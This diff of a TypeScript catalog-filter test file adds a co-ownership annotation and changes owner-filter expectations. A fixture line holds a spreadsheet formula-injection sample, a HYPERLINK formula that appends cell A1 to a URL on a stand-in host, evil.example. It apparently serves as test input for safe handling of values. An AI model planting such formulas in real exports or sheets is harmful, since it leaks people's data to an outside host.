@@ -9,6 +9,7 @@ import { countsOf } from '../__testUtils__/countsOf';
 import { entity } from '../__testUtils__/entities';
 import { excessOf } from '../__testUtils__/excessOf';
 import { Portal } from '../__testUtils__/Portal';
+import { alsoOwnedBy } from '../__testUtils__/TestCatalog';
 import { standingOf } from '../__testUtils__/standingOf';
 
 const formula = '=HYPERLINK("http://evil.example?"&A1,"open me")';
@@ -26,6 +27,7 @@ const entities = [
       'accept.no-backups': 'until 2999-12-31: nothing to lose',
     },
     metadata: { title: 'A list, "signed" by\nall', tags: ['java-17'] },
+    annotations: { [alsoOwnedBy]: 'group:default/payments' },
     spec: { lifecycle: 'Experimental', owner: 'user:ann' },
   }),
   entity('Component', 'fleet', { states: { teams: '9', pods: '40..400' } }),
@@ -65,7 +67,8 @@ const filters: [query: string, matches: Matches][] = [
   ],
   ['kind=COMPONENT', ({ kind }) => kind === 'Component'],
   ['kind=api&kind=domain', ({ kind }) => kind === 'API' || kind === 'Domain'],
-  ['owner=user:default/Ann', ({ owner }) => owner === 'user:default/ann'],
+  ['owner=user:default/Ann', ({ name }) => name === 'shopping-list'],
+  ['owner=group:default/payments', () => true],
   [
     'system=system:default/trade',
     ({ system }) => system === 'system:default/trade',
